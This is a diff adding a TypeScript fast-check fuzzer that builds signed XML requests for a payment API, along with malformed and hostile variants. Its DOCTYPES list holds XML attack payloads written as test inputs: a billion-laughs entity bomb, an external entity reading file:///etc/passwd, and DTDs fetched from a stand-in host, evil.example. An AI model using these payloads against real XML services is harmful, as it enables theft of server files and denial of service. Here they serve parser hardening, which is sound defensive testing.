@@ -1,0 +1,100 @@
+import { xmlSignature } from '@kassa/adapters-xml';
+import fc from 'fast-check';
+import { cardNumber, type FuzzBody } from './bodies.js';
+import { FUZZ_PARTNER } from './kassa-process.js';
+
+/** An XML 2.9 document the fuzzer sends, with the signature in it (which no log line may carry). */
+export interface XmlFuzzBody extends FuzzBody {
+  readonly signatures: readonly string[];
+}
+
+const nowUtc = () => `${new Date().toISOString().slice(0, 19)}Z`;
+const phone = (msisdn: string) => `<MobilePhoneCustomer><MSISDN>${msisdn}</MSISDN></MobilePhoneCustomer>`;
+const msisdn = fc.stringMatching(/^79[0-9]{9}$/);
+const id = fc.oneof(fc.uuid(), fc.constantFrom('x', '', '00000000-0000-0000-0000-000000000000'));
+
+/** The operation element's content, right for the operation (ProjectID apart). */
+const operationBody: fc.Arbitrary<[string, string]> = fc.oneof(
+  msisdn.map((m): [string, string] => ['CheckCustomerBillingSupport', phone(m)]),
+  fc
+    .tuple(msisdn, fc.stringMatching(/^[a-z0-9-]{1,20}$/))
+    .map(([m, mc]): [string, string] => ['CreateCustomerContract', `<MerchantContractID>${mc}</MerchantContractID>${phone(m)}<ClientIP>203.0.113.7</ClientIP>`]),
+  fc
+    .tuple(id, fc.constantFrom('1234', '0000', ''))
+    .map(([c, pin]): [string, string] => ['AuthorizeCustomerContract', `<ContractID>${c}</ContractID><PinCode>${pin}</PinCode><ClientIP>203.0.113.7</ClientIP>`]),
+  id.map((c): [string, string] => ['CancelCustomerContract', `<ContractID>${c}</ContractID>`]),
+  fc
+    .tuple(msisdn, fc.stringMatching(/^[A-Za-z0-9-]{1,30}$/), fc.constantFrom('10.00', '0.01', '25.50'))
+    .map(([m, o, amount]): [string, string] => [
+      'CreateInvoice',
+      `<MerchantOrderID>${o}</MerchantOrderID><Price><Amount>${amount}</Amount><Currency>RUB</Currency></Price>${phone(m)}<ClientIP>203.0.113.7</ClientIP>`,
+    ]),
+  fc
+    .tuple(cardNumber, fc.stringMatching(/^[A-Za-z0-9-]{1,30}$/))
+    .map(([pan, o]): [string, string] => [
+      'CreateInvoice',
+      `<MerchantOrderID>${o}</MerchantOrderID><BankCardCustomer><Source>s</Source><MerchantCustomerID>c</MerchantCustomerID><Country>RU</Country><BankCard><PAN>${pan}</PAN><ExpirationMonth>12</ExpirationMonth><ExpirationYear>2030</ExpirationYear><SecurityCode>123</SecurityCode></BankCard></BankCardCustomer><ClientIP>203.0.113.7</ClientIP>`,
+    ]),
+  fc
+    .tuple(fc.constantFrom('AuthorizeInvoice', 'CancelInvoice', 'GetInvoice', 'RefundInvoice'), id)
+    .map(([op, i]): [string, string] => [op, `<InvoiceID>${i}</InvoiceID><PinCode>1234</PinCode><ClientIP>203.0.113.7</ClientIP>`]),
+  fc.stringMatching(/^[A-Za-z0-9-]{0,30}$/).map((o): [string, string] => ['GetInvoiceByMerchantOrderId', `<MerchantOrderID>${o}</MerchantOrderID>`]),
+);
+
+const cardsIn = (text: string) => [...text.matchAll(/<PAN>(\d+)<\/PAN>/g)].map((m) => m[1] as string);
+
+/** A signed document for the fuzz partner (sometimes with a wrong signature or a stale NowUtc). */
+const document = fc.tuple(operationBody, fc.constantFrom('1', '2'), fc.constantFrom('right', 'right', 'right', 'bad-signature', 'stale')).map(([[op, body], project, auth]) => {
+  const now = auth === 'stale' ? '2020-01-01T00:00:00Z' : nowUtc();
+  const signature = auth === 'bad-signature' ? 'cd'.repeat(32) : xmlSignature(FUZZ_PARTNER.password, FUZZ_PARTNER.login, now);
+  const text = `<?xml version="1.0" encoding="utf-8"?><Request><Header><Authentication><Login>${FUZZ_PARTNER.login}</Login><NowUtc>${now}</NowUtc><Signature>${signature}</Signature></Authentication></Header><${op}Request><ProjectID>${project}</ProjectID>${body}</${op}Request></Request>`;
+  return { text, signature };
+});
+
+const body = (kind: string, text: string, signature?: string): XmlFuzzBody => ({ kind, content: text, cardNumbers: cardsIn(text), signatures: signature ? [signature] : [] });
+
+/** Right documents, and documents with one element's text replaced by a hostile value. */
+export const nearlyRightXml: fc.Arbitrary<XmlFuzzBody> = fc.oneof(
+  { weight: 3, arbitrary: document.map((d) => body('xml-right', d.text, d.signature)) },
+  {
+    weight: 2,
+    arbitrary: fc
+      .tuple(document, fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom('&amp;', '&lt;x&gt;', ']]>', '-1', '99999999999999999999', '\u202e', '\u0000')))
+      .map(([d, v]) => body('xml-one-value-wrong', d.text.replace(/<(ProjectID|MSISDN|ContractID|InvoiceID|PinCode|Amount|MerchantOrderID)>[^<]*</, `<$1>${v.replace(/[<&]/g, '')}<`), d.signature)),
+  },
+);
+
+const DOCTYPES = [
+  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
+  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+  '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd">',
+  '<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.example/r.dtd">',
+  '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
+  '<!doctype Request>',
+  '<!DOCTYPE Request [<!ELEMENT Request ANY><!ATTLIST Request a CDATA "x">]>',
+];
+
+/** Mutations of a signed document: the cases of the issue, and bytes. */
+export const hostileXml: fc.Arbitrary<XmlFuzzBody> = fc.oneof(
+  document.chain((d) => fc.nat(d.text.length).map((cut) => body('xml-truncated', d.text.slice(0, cut), d.signature))),
+  document.map((d) => body('xml-wrong-nesting', d.text.replace('</Authentication></Header>', '</Header></Authentication>'), d.signature)),
+  document.map((d) => body('xml-repeated', d.text.replace(/(<ProjectID>[^<]*<\/ProjectID>)/, '$1$1'), d.signature)),
+  document.map((d) => body('xml-two-operations', d.text.replace('</Request>', '<GetInvoiceRequest><ProjectID>1</ProjectID></GetInvoiceRequest></Request>'), d.signature)),
+  fc
+    .tuple(document, fc.integer({ min: 1_000, max: 80_000 }))
+    .map(([d, n]) => body('xml-huge-text', d.text.replace('</Request>', `<Description>${'x'.repeat(n)}</Description></Request>`), d.signature)),
+  fc
+    .tuple(document, fc.string({ unit: 'binary', maxLength: 60 }))
+    .map(([d, s]) => body('xml-unicode', d.text.replace(/<MerchantOrderID>[^<]*/, `<MerchantOrderID>${s.replace(/[<&]/g, '')}`), d.signature)),
+  document.map((d) => body('xml-cdata-comments-pi', d.text.replace('<Header>', '<!-- c --><?pi x?><Header>').replace(/<ProjectID>([^<]*)</, '<ProjectID><![CDATA[$1]]><'), d.signature)),
+  fc.tuple(document, fc.constantFrom(...DOCTYPES)).map(([d, dt]) => body('xml-doctype', d.text.replace('<Request>', `${dt}<Request>`), d.signature)),
+  fc.integer({ min: 17, max: 3_000 }).map((n) => body('xml-deep', `<Request>${'<a>'.repeat(n)}${'</a>'.repeat(n)}</Request>`)),
+  fc.string({ maxLength: 200 }).map((s) => body('xml-text', s)),
+  fc.uint8Array({ maxLength: 300 }).map((bytes): XmlFuzzBody => ({ kind: 'xml-bytes', content: Buffer.from(bytes), cardNumbers: [], signatures: [] })),
+);
+
+/** The Content-Types an XML request comes with: mostly right. */
+export const xmlContentType = fc.oneof(
+  { weight: 6, arbitrary: fc.constantFrom('text/xml; charset=utf-8', 'application/xml', 'text/xml') },
+  { weight: 1, arbitrary: fc.constantFrom('application/json', 'text/plain', 'text/xml; charset=utf-16', '', 'TEXT/XML') },
+);
